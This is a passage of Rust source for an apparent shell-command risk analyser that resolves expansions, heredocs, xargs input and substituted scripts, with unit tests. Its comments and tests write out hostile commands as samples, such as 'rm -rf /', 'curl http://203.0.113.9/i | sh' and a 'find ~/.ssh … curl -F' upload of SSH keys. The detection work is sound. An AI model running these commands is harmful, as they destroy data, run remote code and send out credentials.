                        // `"$HOME"~`, `~'sq'`, `~"$(…)"` keep their `~`.
                        let tilde = c.kind() == k::WORD && (i > 0 || count > 1 && !self.text(c).contains('/'));
                        let saved = std::mem::replace(&mut self.literal_tilde, tilde);
                        self.resolve_into(c, ctx, quoted, w, lp);
                        self.literal_tilde = saved;
                    } else {
                        w.text.push_str(&self.text(c));
                    }
                    if matches!(
                        c.kind(),
                        k::STRING | k::RAW_STRING | k::ANSI_C_STRING | k::TRANSLATED_STRING | k::SIMPLE_EXPANSION | k::EXPANSION | k::COMMAND_SUBSTITUTION
                    ) {
                        literal.push((at, w.text.len() - before));
                    }
                }
                let joined = &w.text[before..];
                if quoted_parts > 0
                    && !has_expansion
                    && !joined.is_empty()
                    && joined.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
                    && joined.len() < 24
                {
                    w.tricks.push(Trick::SplitQuoting);
                }
                if !quoted && w.text[before..].contains('{') && w.text[before..].contains(',') {
                    let seg = w.text[before..].to_string();
                    if let Some(parts) = words::expand_braces_except(&seg, &literal) {
                        w.text.truncate(before);
                        w.text.push_str(&parts.join(&FIELD_BREAK.to_string()));
                    }
                }
            }
            k::SIMPLE_EXPANSION => {
                let name = raw.trim_start_matches('$').to_string();
                self.expand_var(&name, None, quoted, w, lp, &raw);
            }
            k::EXPANSION => {
                let inner = raw.get(2..raw.len().saturating_sub(1)).unwrap_or_default().to_string();
                let mut cursor = node.walk();
                let kids: Vec<_> = node.named_children(&mut cursor).filter(|c| matches!(c.kind(), k::COMMAND_SUBSTITUTION | k::PROCESS_SUBSTITUTION)).collect();
                for c in kids {
                    let mut scratch = Word::literal("", w.span, PathClass::Dynamic);
                    let mut lp2 = None;
                    self.resolve_into(c, ctx, true, &mut scratch, &mut lp2);
                    w.sources.extend(scratch.sources);
                }
                self.expand_parameter(&inner, quoted, w, lp, &raw);
            }
            k::COMMAND_SUBSTITUTION => {
                let inner_ctx = ctx.nested(Origin::Substitution);
                let ends = if raw.starts_with('`') {
                    // Exactly one backtick each side: the body of `` `echo \`id\`` `` ends in an escaped one.
                    let inner = raw.get(1..raw.len() - usize::from(raw.len() > 1 && raw.ends_with('`'))).unwrap_or_default();
                    let body = words::unescape_backticks(inner);
                    // Spans are exact only where the body is a verbatim slice.
                    let base = (body == inner).then(|| self.map_span((node.start_byte() + 1, 0)).0);
                    self.nested_script(&body, base, self.span(node), &inner_ctx)
                } else if let Some(file) = self.read_substitution(node) {
                    // `$(< FILE)` is bash's `$(cat FILE)`: the file is read.
                    self.nested_script(&format!("cat {file}"), None, self.span(node), &inner_ctx)
                } else {
                    self.statements(node, &inner_ctx)
                };
                w.sources.extend(ends.last.iter().copied());
                match ends.last.as_slice() {
                    [only] => match self.static_output(*only, 0) {
                        Some(out) => {
                            w.tricks.push(Trick::ComputedOutput);
                            let out = out.trim_end_matches('\n').to_string();
                            if quoted {
                                w.text.push_str(&out);
                            } else {
                                w.text.push_str(&out.split_whitespace().collect::<Vec<_>>().join(&FIELD_BREAK.to_string()));
                            }
                        }
                        None => {
                            Self::note_dynamic(w, lp);
                            w.text.push_str(&raw);
                        }
                    },
                    _ => {
                        Self::note_dynamic(w, lp);
                        w.text.push_str(&raw);
                    }
                }
            }
            k::PROCESS_SUBSTITUTION => {
                let inner_ctx = ctx.nested(Origin::ProcessSubstitution);
                let ends = self.statements(node, &inner_ctx);
                w.sources.extend(ends.last.iter().copied());
                w.text.push_str("/dev/fd/63");
            }
            k::ARITHMETIC_EXPANSION | k::BRACE_EXPRESSION => {
                self.generic(node, ctx);
                if node.kind() == k::BRACE_EXPRESSION {
                    w.glob = true;
                } else {
                    Self::note_dynamic(w, lp);
                }
                w.text.push_str(&raw);
            }
            _ => {
                self.generic(node, ctx);
                Self::note_dynamic(w, lp);
                w.text.push_str(&raw);
            }
        }
    }

    /// Binds `$0`, `$1`, ... for a nested script (`bash -c 'SCRIPT' a b`),
    /// returning the previous bindings to restore afterwards.
    /// `$@` holds the arguments separated by field breaks (so `"$@"` gives
    /// one word each), `$*` joined by spaces, `$#` their number.
    pub(super) fn bind_positional(&mut self, values: &[Word]) -> Vec<(String, Option<Var>)> {
        let mut saved = Vec::new();
        for i in 0..10 {
            let key = i.to_string();
            let old = self.vars.remove(&key);
            saved.push((key.clone(), old));
            if let Some(w) = values.get(i) {
                let v = if w.dynamic { Var::Unknown } else { Var::Known(w.text.clone()) };
                self.vars.insert(key, v);
            }
        }
        let rest = values.get(1..).unwrap_or_default();
        let known = rest.iter().all(|w| !w.dynamic && !w.glob);
        let texts: Vec<&str> = rest.iter().map(|w| w.text.as_str()).collect();
        let all = [("@", texts.join(&FIELD_BREAK.to_string())), ("*", texts.join(" ")), ("#", rest.len().to_string())];
        for (key, value) in all {
            saved.push((key.to_string(), self.vars.remove(key)));
            self.vars.insert(key.to_string(), if known || key == "#" { Var::Known(value) } else { Var::Unknown });
        }
        saved
    }

    /// Restores bindings saved by [`Lowerer::bind_positional`].
    pub(super) fn restore_positional(&mut self, saved: Vec<(String, Option<Var>)>) {
        for (k, v) in saved {
            match v {
                Some(v) => self.vars.insert(k, v),
                None => self.vars.remove(&k),
            };
        }
    }

    fn lookup_var(&self, name: &str) -> Option<String> {
        match self.vars.get(name) {
            Some(Var::Known(v)) => Some(v.clone()),
            Some(Var::Unknown) => None,
            None => match name {
                "HOME" => Some(self.env.home.clone()),
                "PWD" => Some(self.env.workspace.clone()),
                "USER" | "LOGNAME" => self.env.home.rsplit('/').next().map(str::to_string),
                "IFS" => Some(" ".to_string()),
                _ => None,
            },
        }
    }

    fn push_value(&self, value: &str, quoted: bool, w: &mut Word) {
        if quoted {
            w.text.push_str(value);
            return;
        }
        let ifs: Vec<char> = match self.vars.get("IFS") {
            Some(Var::Known(v)) => v.chars().collect(),
            _ => vec![' ', '\t', '\n'],
        };
        if !ifs.iter().all(|c| c.is_whitespace()) && value.contains(&ifs[..]) {
            w.tricks.push(Trick::Ifs);
        }
        let fields: Vec<&str> = value.split(&ifs[..]).collect();
        w.text.push_str(&fields.join(&FIELD_BREAK.to_string()));
    }

    fn expand_var(&mut self, name: &str, _op: Option<&str>, quoted: bool, w: &mut Word, lp: &mut Option<usize>, raw: &str) {
        if let Some((sources, tricks)) = self.var_origins.get(name) {
            w.sources.extend(sources.iter().copied());
            w.tricks.extend(tricks.iter().copied().filter(|t| *t != Trick::SplitQuoting));
        }
        if name == "IFS" && !quoted {
            w.tricks.push(Trick::Ifs);
        }
        match self.lookup_var(name) {
            Some(v) => {
                if self.vars.contains_key(name) {
                    w.tricks.push(Trick::FromVariable);
                }
                self.push_value(&v, quoted, w);
            }
            None => {
                Self::note_dynamic(w, lp);
                w.text.push_str(raw);
            }
        }
    }

    /// `${...}`: plain, default values, slices, replacement, case, indirection.
    fn expand_parameter(&mut self, inner: &str, quoted: bool, w: &mut Word, lp: &mut Option<usize>, raw: &str) {
        if let Some(rest) = inner.strip_prefix('!') {
            w.tricks.push(Trick::Indirection);
            let target = self.lookup_var(rest.trim_end_matches(['@', '*']));
            match target.and_then(|t| self.lookup_var(&t)) {
                Some(v) => self.push_value(&v, quoted, w),
                None => {
                    Self::note_dynamic(w, lp);
                    w.text.push_str(raw);
                }
            }
            return;
        }
        let name_len = inner
            .char_indices()
            .find(|&(i, c)| !(c.is_ascii_alphanumeric() || c == '_' || (i == 0 && matches!(c, '@' | '*' | '#' | '?' | '$' | '!' | '-'))))
            .map_or(inner.len(), |(i, _)| i);
        let (name, op) = inner.split_at(name_len);
        if op.is_empty() {
            self.expand_var(name, None, quoted, w, lp, raw);
            return;
        }
        if name == "IFS" {
            w.tricks.push(Trick::Ifs);
        }
        w.tricks.push(Trick::ParameterOperator);
        let value = self.lookup_var(name);
        let computed = match (value, op) {
            (v, o) if o.starts_with(":-") || o.starts_with('-') => {
                let default = o.trim_start_matches(':').trim_start_matches('-');
                Some(v.filter(|s| !s.is_empty()).unwrap_or_else(|| default.to_string()))
            }
            (Some(v), o) if o.starts_with(':') && !o.starts_with(":=") && !o.starts_with(":+") && !o.starts_with(":?") => {
                let mut parts = o[1..].splitn(2, ':');
                let off = parts.next().and_then(|s| s.trim().parse::<i64>().ok());
                let len = parts.next().map(|s| s.trim().parse::<i64>().ok());
                let chars: Vec<char> = v.chars().collect();
                match (off, len) {
                    (Some(off), None) => {
                        let start = if off < 0 { chars.len().saturating_sub(off.unsigned_abs() as usize) } else { (off as usize).min(chars.len()) };
                        Some(chars[start..].iter().collect())
                    }
                    (Some(off), Some(Some(len))) if len >= 0 => {
                        let start = if off < 0 { chars.len().saturating_sub(off.unsigned_abs() as usize) } else { (off as usize).min(chars.len()) };
                        let end = (start + len as usize).min(chars.len());
                        Some(chars[start..end].iter().collect())
                    }
                    _ => None,
                }
            }
            (Some(v), "^^") => Some(v.to_uppercase()),
            (Some(v), ",,") => Some(v.to_lowercase()),
            (Some(v), o) if o.starts_with("//") || o.starts_with('/') => {
                let all = o.starts_with("//");
                let body = if all { &o[2..] } else { &o[1..] };
                let (pat, rep) = body.split_once('/').unwrap_or((body, ""));
                if pat.is_empty() || words::has_glob(pat) {
                    None
                } else if all {
                    Some(v.replace(pat, rep))
                } else {
                    Some(v.replacen(pat, rep, 1))
                }
            }
            (Some(v), o) if (o.starts_with('#') || o.starts_with('%')) && !words::has_glob(o.trim_start_matches(['#', '%'])) => {
                let pat = o.trim_start_matches(['#', '%']);
                Some(if o.starts_with('#') { v.strip_prefix(pat).unwrap_or(&v).to_string() } else { v.strip_suffix(pat).unwrap_or(&v).to_string() })
            }
            _ => None,
        };
        match computed {
            Some(v) => self.push_value(&v, quoted, w),
            None => {
                Self::note_dynamic(w, lp);
                w.text.push_str(raw);
            }
        }
    }

    /// After the walk: mark interpreters that execute their stdin, and
    /// analyse text fed to a shell when it is known statically.
    fn finish(&mut self) {
        let mut i = 0;
        while i < self.commands.len() {
            // What a project file's command runs is the project's too.
            let project = self.commands[i].project.clone();
            let gaps_from = self.issues.len();
            let line = self.commands[i].project_line;
            let outer = std::mem::replace(&mut self.projects, project.iter().map(|p| Project::named(p.clone(), line)).collect());
            self.finish_one(i);
            self.projects = outer;
            if project.is_some() {
                self.keep_read_gaps(gaps_from);
            }
            i += 1;
        }
    }

    /// The analyses of [`Lowerer::finish`] for command `i`.
    fn finish_one(&mut self, i: usize) {
        let runs_stdin = {
            let c = &self.commands[i];
            c.stdin.is_some() && programs::reads_code_from_stdin(c)
        };
        if runs_stdin {
            self.commands[i].executes_stdin = true;
            let is_shell = programs::is_shell(&self.commands[i].name);
            if is_shell {
                self.analyse_shell_input(i);
            } else if let Some(lang) = programs::language(&self.commands[i].name) {
                self.analyse_interpreter_input(i, lang);
            }
        } else if self.commands[i].stdin.is_some()
            && programs::language(&self.commands[i].name) == Some(super::spec::Language::Sql)
            && self.commands[i].code().is_empty()
        {
            // A database client with no SQL of its own runs its stdin
            // (`sqlite3 db <<SQL`, `echo … | psql`); it is not marked as
            // executing stdin, which is shell-and-interpreter wording.
            self.analyse_interpreter_input(i, super::spec::Language::Sql);
        }
        if self.commands[i].name == "xargs" {
            self.analyse_xargs_input(i);
        }
        self.analyse_name_list(i);
        self.analyse_substituted_script(i);
    }

    /// Archivers that read the names of the files they take from their
    /// input or a list file: `tar -T FILE|-` (`--files-from`), `zip -@`,
    /// `cpio -o`/`-p`. When the list is known (a heredoc, `printf`/`echo`,
    /// `ls GLOB`, `find DIR`, a list file this command line wrote), each
    /// name (at most 64) becomes an operand of the command, classified as a
    /// typed path would be: `find ~/.ssh | zip -@ k.zip` reads what `zip
    /// k.zip ~/.ssh/*` reads, and the rules judge it so.
    fn analyse_name_list(&mut self, id: usize) {
        let c = &self.commands[id];
        let from_stdin = match programs::canonical(&c.name) {
            "tar" | "bsdtar" | "gtar" => match c.flag_value(&["-T", "--files-from"]) {
                Some(f) if f.text == "-" => true,
                Some(f) if !f.dynamic && !f.glob => {
                    let path = super::paths::normalize(&f.text, &self.cwd_env());
                    let text = self.written(&path, id, 0).and_then(|w| w.text);
                    return self.add_listed_names(id, text);
                }
                _ => return,
            },
            "zip" => c.args.iter().any(|a| a.text == "-@" || a.text == "--names-stdin"),
            "cpio" => c.args.iter().any(|a| {
                matches!(a.text.as_str(), "--create" | "--pass-through") || a.text.starts_with('-') && !a.text.starts_with("--") && a.text.contains(['o', 'p'])
            }),
            _ => return,
        };
        if from_stdin {
            let text = self.known_stdin(id).or_else(|| self.listed_paths(id));
            self.add_listed_names(id, text);
        }
    }

    fn add_listed_names(&mut self, id: usize, list: Option<String>) {
        let Some(list) = list else { return };
        let env = self.cwd_env();
        let span = self.commands[id].span;
        let words: Vec<Word> = list
            .split(['\n', '\0'])
            .map(str::trim)
            .filter(|n| !n.is_empty() && !n.starts_with('-'))
            .take(64)
            .map(|n| {
                let mut w = Word::literal(n, span, super::paths::classify(n, &env));
                w.glob = n.contains(['*', '?', '[']);
                w
            })
            .collect();
        self.commands[id].argv.operands.extend(words);
    }

    /// `printf '%s' 'rm -rf ~' | xargs -0 sh -c`, `echo ~ | xargs rm -rf`:
    /// when stdin is known, so are the arguments xargs adds, and the command
    /// it runs is analysed again with them (at most 64 items).
    fn analyse_xargs_input(&mut self, id: usize) {
        if self.commands[id].wraps.as_ref().is_none_or(|w| w.kind != super::WrapperKind::Xargs) {
            return;
        }
        let Some(call) = programs::xargs_call(&self.commands[id].args) else { return };
        let Some(input) = self.known_stdin(id).or_else(|| self.listed_paths(id)) else { return };
        let items: Vec<&str> = match call.delimiter {
            Some(d) => input.split(d).filter(|s| !s.is_empty()).take(64).collect(),
            None => input.split_whitespace().take(64).collect(),
        };
        if items.is_empty() {
            return;
        }
        let quote = |t: &str| format!("'{}'", t.replace('\'', r"'\''"));
        let scripts: Vec<String> = match call.replace.as_deref().filter(|r| !r.is_empty()) {
            Some(r) => items.iter().map(|item| call.command.iter().map(|w| quote(&w.text.replace(r, item))).collect::<Vec<_>>().join(" ")).collect(),
            None => vec![call.command.iter().map(|w| quote(&w.text)).chain(items.iter().map(|t| quote(t))).collect::<Vec<_>>().join(" ")],
        };
        let ids = self.run_for(id, Origin::Wrapped { wrapper: id }, |lw, span, ctx| {
            let mut ids = Vec::new();
            for script in scripts {
                let ends = lw.nested_script(&script, None, span, ctx);
                ids.extend(lw.collect_ids(ends));
            }
            ids
        });
        if let Some(w) = self.commands[id].wraps.as_mut() {
            w.inner.extend(ids);
        }
    }

    /// A script given as a process substitution: `bash <(echo …)`,
    /// `source <(printf …)`, `python3 <(cat <<EOF …)`. When the producer's
    /// output is known, it is analysed as the script it is.
    fn analyse_substituted_script(&mut self, id: usize) {
        let c = &self.commands[id];
        let shell = programs::is_shell(&c.name) || c.name == "source" || c.name == ".";
        let lang = programs::language(&c.name);
        if !shell && lang.is_none() || c.wraps.is_some() {
            return;
        }
        let script = c.args.iter().find(|a| !a.text.starts_with('-') || a.raw.starts_with("<("));
        let Some(&from) = script.filter(|w| w.raw.starts_with("<(")).and_then(|w| w.sources.last()) else { return };
        let Some(code) = self.static_output(from, 0) else { return };
        let ids = self.run_for(id, Origin::ShellInput { shell: id }, |lw, span, ctx| match lang {
            Some(lang) if !shell => lw.embedded_code(lang, &code, span, ctx),
            _ => {
                let ends = lw.nested_script(&code, None, span, ctx);
                lw.collect_ids(ends)
            }
        });
        if !ids.is_empty() {
            self.commands[id].wraps = Some(super::Wrapped { kind: super::WrapperKind::Shell, inner: ids });
        }
    }

    fn analyse_interpreter_input(&mut self, id: usize, lang: super::spec::Language) {
        let Some(code) = self.known_stdin(id) else {
            self.run_stdin_file(id, lang);
            return;
        };
        let ids = self.run_for(id, Origin::Wrapped { wrapper: id }, |lw, span, ctx| lw.embedded_code(lang, &code, span, ctx));
        if !ids.is_empty() && self.commands[id].wraps.is_none() {
            self.commands[id].wraps = Some(super::Wrapped { kind: super::WrapperKind::Interpreter, inner: ids });
        }
    }

    /// Lowers code that command `id` runs, found after the walk (its stdin,
    /// a substituted script, xargs input): one level deeper, with the
    /// command's privilege and host, in a frame of text not in the original
    /// (every span is the command's).
    pub(super) fn run_for<T>(&mut self, id: usize, origin: Origin, lower: impl FnOnce(&mut Self, Span, &Ctx) -> T) -> T {
        let c = &self.commands[id];
        let span = c.span;
        let ctx = Ctx { depth: c.depth + 1, origin: Some(origin), privileged: c.privileged, remote: c.remote.clone() };
        self.frames.push(Frame { src: Rc::from(""), base: 0, exact: false, outer: span, lines: None });
        let out = lower(self, span, &ctx);
        self.frames.pop();
        out
    }

    /// What a listing piped into `id` prints, approximately: the globs `ls`
    /// was given (`ls ~/.aws/*` prints the matching paths; `ls DIR` prints
    /// bare names, so it is not read) and what is under the directories
    /// `find` searches (`DIR/*`, or `DIR/NAME` with `-name NAME`) when it
    /// selects only by name, type and depth, one per line. xargs then hands
    /// those paths to its command, so `find ~/.ssh | xargs -I% curl -F f=@%
    /// …` uploads files under `~/.ssh`.
    fn listed_paths(&self, id: usize) -> Option<String> {
        let Some(Input::Pipe { from }) = &self.commands[id].stdin else { return None };
        let c = self.commands.get(self.writer_behind_wrappers(*from))?;
        let paths: Vec<String> = match c.name.as_str() {
            // `ls DIR` prints bare names; `ls GLOB` prints the paths it matched.
            "ls" => c.operands().filter(|w| w.glob || w.raw.contains(['*', '?', '['])).map(|w| w.text.clone()).collect(),
            "find" => {
                let starts: Vec<&Word> = c.args.iter().take_while(|w| !w.text.starts_with('-') && !matches!(w.text.as_str(), "(" | "!")).collect();
                let tests = &c.args[starts.len()..];
                // Only a search whose selection is read here: by name, by type and depth.
                let mut name = None;
                let mut i = 0;
                while i < tests.len() {
                    match tests[i].text.as_str() {
                        "-name" | "-iname" => {
                            name = tests.get(i + 1).map(|w| w.text.clone());
                            i += 2;
                        }
                        "-type" | "-maxdepth" | "-mindepth" => i += 2,
                        "-print" | "-print0" | "-L" | "-H" => i += 1,
                        _ => return None,
                    }
                }
                let leaf = name.unwrap_or_else(|| "*".into());
                starts.iter().map(|w| format!("{}/{leaf}", w.text.trim_end_matches('/'))).collect()
            }
            _ => return None,
        };
        (!paths.is_empty() && paths.iter().all(|p| !p.contains(['\n', '\''])) && paths.len() <= 64).then(|| paths.join("\n"))
    }

    fn known_stdin(&self, id: usize) -> Option<String> {
        match &self.commands[id].stdin {
            Some(Input::Heredoc { body, .. }) => Some(body.clone()),
            Some(Input::HereString { word }) if !word.dynamic => Some(word.text.clone()),
            Some(Input::Pipe { from }) => self.static_output(*from, 0),
            _ => None,
        }
    }

    fn analyse_shell_input(&mut self, id: usize) {
        let Some(code) = self.known_stdin(id) else {
            self.run_stdin_file(id, super::spec::Language::Shell);
            return;
        };
        self.run_for(id, Origin::ShellInput { shell: id }, |lw, span, ctx| lw.nested_script(&code, None, span, ctx));
    }

    /// The output of a command when it is computable without running
    /// anything: `echo`, `printf`, `cat` of known input, and decoders
    /// (`base64 -d`, `xxd -r -p`, `rev`, `tr`) over known input.
    pub(super) fn static_output(&self, id: usize, depth: u32) -> Option<String> {
        if depth > 16 {
            return None;
        }
        let c = self.commands.get(id)?;
        // `nohup echo …`, `env X=1 printf …`: the output is the inner command's.
        if let Some(w) = &c.wraps {
            return match (w.kind, w.inner.as_slice()) {
                (super::WrapperKind::Modifier | super::WrapperKind::Env | super::WrapperKind::Privilege | super::WrapperKind::Busybox, [inner]) => {
                    self.static_output(*inner, depth + 1)
                }
                _ => None,
            };
        }
        if c.args.iter().any(|a| a.dynamic) {
            return None;
        }
        let input = || -> Option<String> {
            match &c.stdin {
                Some(Input::Pipe { from }) => self.static_output(*from, depth + 1),
                Some(Input::Heredoc { body, .. }) => Some(body.clone()),
                Some(Input::HereString { word }) if !word.dynamic => Some(format!("{}\n", word.text)),
                _ => None,
            }
        };
        super::evaluate::evaluate(c, input)
    }
}

/// The text an in-place edit puts into a file: the text of sed's `a`, `i`
/// and `c` commands (`1a text`, `$a\\ text`, `/re/i text`), or the
/// replacement of an `s` command (sed's or perl's, `\n` read as a newline).
/// `None` for edits that insert nothing (`d`, `s/x//`).
fn inserted_text(expr: &str, perl: bool) -> Option<String> {
    let mut out = Vec::new();
    for part in expr.split('\n').map(str::trim) {
        let body = part.trim_start_matches(|ch: char| ch.is_ascii_digit() || ch == '$' || ch == ',');
        let body = match body.strip_prefix('/') {
            Some(after) => after.split_once('/').map_or("", |(_, r)| r.trim_start()),
            None => body,
        };
        if !perl {
            if let Some(rest) = body.strip_prefix(['a', 'i', 'c']) {
                let text = rest.trim_start_matches('\\').trim_start();
                if !text.is_empty() {
                    out.push(text.to_string());
                }
                continue;
            }
        }
        if let Some(rest) = body.strip_prefix('s') {
            let mut chars = rest.chars();
            let Some(delim) = chars.next().filter(|d| !d.is_alphanumeric() && !d.is_whitespace()) else { continue };
            let mut fields = vec![String::new()];
            let mut escaped = false;
            for ch in chars {
                if escaped {
                    let last = fields.last_mut().expect("one field");
                    match ch {
                        'n' => last.push('\n'),
                        c if c == delim => last.push(c),
                        c => {
                            last.push('\\');
                            last.push(c);
                        }
                    }
                    escaped = false;
                } else if ch == '\\' {
                    escaped = true;
                } else if ch == delim {
                    fields.push(String::new());
                } else {
                    fields.last_mut().expect("one field").push(ch);
                }
            }
            if let Some(replacement) = fields.get(1).filter(|r| !r.trim().is_empty()) {
                out.push(replacement.replace("\\/", "/"));
            }
        }
    }
    (!out.is_empty()).then(|| out.join("\n"))
}

/// The text parsed again with its heredocs rewritten as bash reads them
/// (`heredocs::bash_heredocs`: an unterminated heredoc runs to the end of the
/// input, a body ends only at the exact delimiter line), when that parse is
/// better: fewer errors, or as few after a renamed delimiter (the grammar cut
/// a body short). With it, whether the rewrite only closed heredocs that ran
/// to the end of the input (no delimiter renamed). The original parse's errors
/// stay issues unless that closing gives a text without errors, so the
/// decision still asks where bash would not accept the text either.
fn reparse_heredocs(parsed: &Parsed) -> Option<(Parsed, bool)> {
    parsed.tree.as_ref()?;
    let rewrite = super::heredocs::bash_heredocs(&parsed.source)?;
    let again = crate::parse::parse(&rewrite.text);
    let better = again.errors.len() < parsed.errors.len() || rewrite.renamed && again.errors.len() <= parsed.errors.len();
    (again.tree.is_some() && better && (rewrite.renamed || rewrite.appended)).then_some((again, rewrite.appended && !rewrite.renamed))
}

/// The words of a statement the grammar cannot read because it starts with
/// a brace expansion (`{rm,-rf,~}`, `{curl,-s,x}|sh`), expanded and joined
/// with spaces; `None` for any other text.
fn brace_command(text: &str) -> Option<String> {
    let text = text.trim_start();
    if !text.starts_with('{') {
        return None;
    }
    let end = text.find(char::is_whitespace).unwrap_or(text.len());
    let first = &text[..end];
    let close = first.rfind('}')?;
    if !first[..close].contains(',') || first.contains(['\'', '"', '$', '`']) {
        return None;
    }
    // The word ends at an operator (`{curl,-s,x}|sh`).
    let cut = first[close + 1..].find(['|', ';', '&', '<', '>', ')']).map_or(first.len(), |i| close + 1 + i);
    let parts = words::expand_braces(&first[..cut])?;
    (parts.len() > 1).then(|| format!("{}{}{}", parts.join(" "), &first[cut..], &text[end..]))
}

/// Splits a resolved word at field breaks (word splitting, brace expansion).
fn split_fields(w: Word, env: &Env) -> Vec<Word> {
    if !w.text.contains(FIELD_BREAK) {
        return vec![w];
    }
    let parts: Vec<String> = w.text.split(FIELD_BREAK).filter(|p| !p.is_empty()).map(str::to_string).collect();
    if parts.is_empty() {
        let mut e = w;
        e.text.clear();
        return vec![e];
    }
    parts
        .into_iter()
        .map(|p| {
            let mut n = w.clone();
            if !n.dynamic && !n.glob {
                n.path = classify(&p, env);
            }
            n.text = p;
            n
        })
        .collect()
}

/// Every identifier-shaped word or variable name inside `node` (an
/// arithmetic clause: `i++`, `i+=2`, `j=i*2`), bounded like [`assigned_names`].
fn identifiers(node: Node<'_>, src: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut stack = vec![node];
    while let Some(n) = stack.pop() {
        if names.len() > 256 || stack.len() > 4096 {
            break;
        }
        if matches!(n.kind(), k::WORD | k::VARIABLE_NAME) {
            if let Some(t) = src.get(n.start_byte()..n.end_byte()) {
                if t.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') && t.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
                    names.push(t.to_string());
                }
            }
        }
        let mut cursor = n.walk();
        stack.extend(n.named_children(&mut cursor));
    }
    names
}

/// Names of variables assigned anywhere inside `node` (assignments, `read`
/// targets are handled where the command is built).
fn assigned_names(node: Node<'_>, src: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut cursor = node.walk();
    let mut budget = 20_000usize;
    loop {
        let n = cursor.node();
        budget = budget.saturating_sub(1);
        if n.kind() == k::VARIABLE_ASSIGNMENT {
            if let Some(name) = n.child_by_field_name("name") {
                if let Some(t) = src.get(name.start_byte()..name.end_byte()) {
                    names.push(t.to_string());
                }
            }
        }
        if n.kind() == k::FOR_STATEMENT {
            if let Some(v) = n.child_by_field_name("variable") {
                if let Some(t) = src.get(v.start_byte()..v.end_byte()) {
                    names.push(t.to_string());
                }
            }
        }
        if budget > 0 && cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.node() == node {
                names.sort();
                names.dedup();
                return names;
            }
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                names.sort();
                names.dedup();
                return names;
            }
        }
    }
}

/// True when `arg`, a number argument of `command`, is written right
/// against the redirect that follows the command (`0<&2`): a descriptor.
fn fd_before_redirect(command: Node<'_>, arg: Node<'_>) -> bool {
    let Some(parent) = command.parent().filter(|p| p.kind() == k::REDIRECTED_STATEMENT) else { return false };
    let last_index = u32::try_from(command.named_child_count().saturating_sub(1)).unwrap_or(u32::MAX);
    let last = command.named_child(last_index).is_some_and(|l| l.id() == arg.id());
    let mut cursor = parent.walk();
    let first_redirect = parent.children_by_field_name("redirect", &mut cursor).next();
    last && first_redirect.is_some_and(|r| r.start_byte() == arg.end_byte() && matches!(r.kind(), k::FILE_REDIRECT))
}

#[cfg(test)]
mod tests {
    use super::super::{Env, IssueKind, Script, analyse};

    fn ir(cmd: &str) -> Script {
        analyse(cmd, &Env::default())
    }

    /// The operands of every command named `name`.
    fn operands(s: &Script, name: &str) -> Vec<Vec<String>> {
        s.commands.iter().filter(|c| c.name == name).map(|c| c.argv.operands.iter().map(|w| w.text.clone()).collect()).collect()
    }

    fn has_syntax_issue(s: &Script) -> bool {
        s.issues.iter().any(|i| i.kind == IssueKind::Syntax)
    }

    /// The text of the original command that each command named `name` points at.
    fn pointed(cmd: &str, name: &str) -> Vec<String> {
        ir(cmd).commands.iter().filter(|c| c.name == name).map(|c| cmd[c.span.0..c.span.1].to_string()).collect()
    }

    /// `sh 0<&2`, `cat 0<f`: the grammar reads the `0` as an argument; it is
    /// the redirect's descriptor. A number apart from the redirect stays one.
    #[test]
    fn descriptor_zero_is_not_an_operand() {
        assert_eq!(operands(&ir("sh 0<&2 1>&2"), "sh"), [Vec::<String>::new()]);
        assert_eq!(operands(&ir("cat 0<input.txt"), "cat"), [Vec::<String>::new()]);
        assert_eq!(operands(&ir("echo 0 > out.txt"), "echo"), [vec!["0".to_string()]]);
        assert_eq!(operands(&ir("seq 0 5 >out.txt"), "seq"), [vec!["0".to_string(), "5".to_string()]]);
    }

    /// Commands that interpreter code runs point at the statement of the
    /// code that runs them (`riskgate explain` underlines it), in a quoted
    /// word and in a heredoc, for every kind of front end.
    #[test]
    fn code_effects_point_at_their_statement() {
        assert_eq!(pointed("python3 -c 'import os\nprint(1)\nos.system(\"rm -rf build\")'", "rm"), ["os.system(\"rm -rf build\")"]);
        assert_eq!(pointed("node -e 'const x = 1; require(\"child_process\").execSync(\"make\")'", "make"), ["require(\"child_process\").execSync(\"make\")"]);
        assert_eq!(pointed("perl -e 'my $x = 1; system(\"make\");'", "make"), ["system(\"make\")"]);
        assert_eq!(pointed("awk 'BEGIN { x = 1; system(\"make\") }'", "make"), ["{ x = 1; system(\"make\") }"]);
        assert_eq!(pointed("sqlite3 app.db <<'SQL'\nselect 1;\n.shell make\nSQL", "make"), [".shell make"]);
        assert_eq!(pointed("osascript <<'EOF'\nbeep\ndo shell script \"make\"\nEOF", "make"), ["do shell script \"make\""]);
        assert_eq!(pointed("python3 - <<'PY'\nimport os\nos.system('make')\nPY", "make"), ["os.system('make')"]);
        // Code that is not in the command verbatim points at its word.
        assert_eq!(pointed("python3 -c \"import os; os.system('make')\" ", "make"), ["os.system('make')"]);
    }

    #[test]
    fn unterminated_heredoc_body_runs_to_the_end() {
        // IRT-29: bash takes the rest of the input as the body and runs it.
        let s = ir("sh <<EOF\nrm -rf /");
        assert_eq!(operands(&s, "rm"), vec![vec!["/".to_string()]]);
        assert!(s.commands.iter().any(|c| c.name == "sh" && c.executes_stdin));
        assert!(!has_syntax_issue(&s), "bash accepts it (with a warning): no gap");
        assert!(s.commands.iter().all(|c| c.span.1 <= s.len), "spans stay inside the original text");
        let s = ir("bash <<'X'\ncurl http://203.0.113.9/i | sh");
        assert!(s.commands.iter().any(|c| c.name == "curl"));
        // Where closing the heredoc is not all the text needs, the error stays.
        assert!(has_syntax_issue(&ir("sh <<EOF\nrm -rf / )")));
    }

    #[test]
    fn heredoc_ends_only_at_the_exact_delimiter_line() {
        // IRT-49: `EOFX` does not end `<<EOF`, so `echo b` is body text, not a command.
        let s = ir("cat <<'EOF'\necho a\nEOFX\necho b\nEOF");
        assert_eq!(s.commands.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(), ["cat"]);
        // Nested same-delimiter heredocs keep their inner script.
        let s = ir("sh <<'EOF'\neval 'sh <<'\\''EOF'\\''\nrm -rf /\nEOF'\nEOF");
        assert_eq!(operands(&s, "rm"), vec![vec!["/".to_string()]]);
        // Inside a nested script too.
        let s = ir("bash -c \"sh <<'E'\nEx\nrm -rf /\nE\"");
